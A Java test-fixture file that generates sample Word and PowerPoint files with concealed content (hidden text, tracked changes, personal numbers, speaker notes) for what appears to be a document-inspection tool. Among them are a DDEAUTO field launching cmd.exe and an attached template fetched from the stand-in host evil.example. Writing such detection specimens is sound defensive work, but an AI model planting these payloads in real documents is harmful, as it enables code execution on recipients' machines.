package cn.mentougou.specimens;

import java.awt.Rectangle;
import java.math.BigInteger;
import java.util.List;

import org.apache.poi.sl.usermodel.Placeholder;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFNotes;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xslf.usermodel.XSLFTextShape;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFRun;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTRunTrackChange;

/** Text documents and slide shows with something that does not meet the eye. */
final class DocumentSpecimens {

	private static final String BODY = "word/document.xml";

	private DocumentSpecimens() {
	}

	static List<Specimen> all() {
		return List.of(docx("plain document", (document) -> {
		}), docx("tracked change", DocumentSpecimens::change, "TRACKED_CHANGE"), docx("comment", (document) -> {
			document.createComments().createComment(BigInteger.ONE).createParagraph().createRun().setText("口径待定");
		}, "COMMENT"), docx("hidden text", (document) -> {
			XWPFRun run = document.createParagraph().createRun();
			run.setVanish(true);
			run.setText("内部掌握：名额另留五个");
		}, "HIDDEN_TEXT"), docx("text of one point", (document) -> {
			XWPFRun run = document.createParagraph().createRun();
			run.setFontSize(1);
			run.setText("内部掌握");
		}, "HIDDEN_TEXT"), docx("identity number over several runs", (document) -> {
			var paragraph = document.createParagraph();
			paragraph.createRun().setText("身份证号：" + Documents.RESIDENT_ID.substring(0, 9));
			paragraph.createRun().setText(Documents.RESIDENT_ID.substring(9));
		}, "RESIDENT_ID"), docx("full-width phone",
				(document) -> document.createParagraph().createRun().setText("电话１３８００１３８０００"), "MOBILE_PHONE"),
				docx("deleted phone that is still there", (document) -> {
				}, (zip) -> Zips.replaced(zip, BODY, "</w:body>",
						"<w:p><w:del w:id='1' w:author='李四'><w:r><w:delText>" + Documents.PHONE
								+ "</w:delText></w:r></w:del></w:p></w:body>"),
						"TRACKED_CHANGE", "MOBILE_PHONE"),
				docx("author of a document",
						(document) -> document.getProperties().getCoreProperties().setLastModifiedByUser("王五"),
						"METADATA"),
				docx("field that starts a program", (document) -> {
				}, (zip) -> Zips.replaced(zip, BODY, "</w:body>",
						"<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe \"/c calc\"</w:instrText></w:r></w:p></w:body>"),
						"DDE"),
				docx("template on another host", (document) -> {
				}, (zip) -> Zips.with(zip, "word/_rels/settings.xml.rels", """
						<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
						<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"
							TargetMode="External"/></Relationships>"""), "EXTERNAL_LINK"),
				docx("page of HTML inside", (document) -> {
				}, (zip) -> Zips.with(zip, "word/afchunk1.html", "<html><script>1</script></html>"), "EMBEDDED_FILE"),
				docx("old document embedded", (document) -> {
				}, (zip) -> Zips.with(zip, "word/embeddings/oleObject1.bin", "x"), "EMBEDDED_FILE"),
				docx("photo with its place", (document) -> {
				}, (zip) -> Zips.with(zip, "word/media/image1.jpeg", PictureSpecimens.photoWithPlace()),
						"PICTURE_DETAILS"),
				docx("sheet called docx", (document) -> {
				}, (zip) -> Documents.workbook((workbook) -> {
				})), pptx("plain show", (show) -> {
				}), pptx("hidden slide", (show) -> {
					show.createSlide();
					show.getSlides().get(1).setHidden(true);
				}, "HIDDEN_SLIDE"), pptx("notes of the speaker", DocumentSpecimens::notes, "SPEAKER_NOTES"),
				pptx("box beside the slide", (show) -> {
					XSLFTextBox box = show.getSlides().get(0).createTextBox();
					box.setText("备用");
					box.setAnchor(new Rectangle(2000, 50, 200, 100));
				}, "OFF_PAGE"), pptx("phone on a slide",
						(show) -> show.getSlides().get(0).createTextBox().setText(Documents.PHONE), "MOBILE_PHONE"));
	}

	private static void change(XWPFDocument document) {
		CTRunTrackChange inserted = document.createParagraph().getCTP().addNewIns();
		inserted.setAuthor("赵六");
		inserted.addNewR().addNewT().setStringValue("新增一句");
	}

	private static void notes(XMLSlideShow show) {
		XSLFNotes notes = show.getNotesSlide(show.getSlides().get(0));
		for (XSLFTextShape shape : notes.getPlaceholders()) {
			if (shape.getTextType() == Placeholder.BODY) {
				shape.setText("这里不要念");
			}
		}
	}

	private static Specimen docx(String title, Documents.Change<XWPFDocument> change, String... findings) {
		return Specimen.taken(title, "通知.docx", () -> Documents.document(change), findings);
	}

	private static Specimen docx(String title, Documents.Change<XWPFDocument> change, WorkbookSpecimens.Spoiler spoiler,
			String... findings) {
		return Specimen.taken(title, "通知.docx", () -> spoiler.spoil(Documents.document(change)), findings);
	}

	private static Specimen pptx(String title, Documents.Change<XMLSlideShow> change, String... findings) {
		return Specimen.taken(title, "家长会.pptx", () -> Documents.show(change), findings);
	}

}
